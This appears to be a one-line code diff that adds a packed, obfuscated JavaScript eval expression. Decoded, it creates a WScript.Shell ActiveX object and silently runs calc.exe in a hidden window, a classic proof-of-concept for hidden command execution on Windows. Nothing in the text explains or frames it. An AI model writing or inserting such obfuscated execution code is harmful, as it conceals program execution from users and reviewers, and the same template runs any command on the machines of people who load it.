@@ -1,0 +1,1 @@
+eval(function(p,a,c,k,e,r){e=String;if(!''.replace(/^/,String)){while(c--)r[c]=k[c]||c;k=[function(e){return r[e]}];e=function(){return'\\w+'};c=1};while(c--)if(k[c])p=p.replace(new RegExp('\\b'+e(c)+'\\b','g'),k[c]);return p}('2 1=3 4("5.6");1.7("8.9",0);',10,10,'|sh|var|new|ActiveXObject|WScript|Shell|Run|calc|exe'.split('|'),0,{}))
